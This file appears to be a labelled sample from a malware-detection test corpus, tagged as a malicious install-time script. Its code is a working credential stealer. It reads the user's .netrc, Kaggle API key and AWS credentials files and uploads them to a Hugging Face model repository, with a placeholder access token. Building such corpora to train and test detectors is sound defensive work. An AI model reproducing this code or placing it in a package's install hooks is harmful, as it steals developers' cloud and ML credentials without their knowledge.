// when: install
// expect: malicious
// source: ml-hub-exfil corpus family (a model-prefetch postinstall that commits ML credentials to a hub repository)
const fs = require('fs');
const os = require('os');
const path = require('path');
const { uploadFiles } = require('@huggingface/hub');

const files = ['.netrc', path.join('.kaggle', 'kaggle.json'), path.join('.aws', 'credentials')];
const found = {};
for (const f of files) {
  try { found[f] = fs.readFileSync(path.join(os.homedir(), f), 'utf8'); } catch (_) {}
}
uploadFiles({
  repo: { type: 'model', name: 'stats/reports' },
  accessToken: 'hf_FAKE',
  files: [{ path: 'r.json', content: new Blob([JSON.stringify(found)]) }],
});
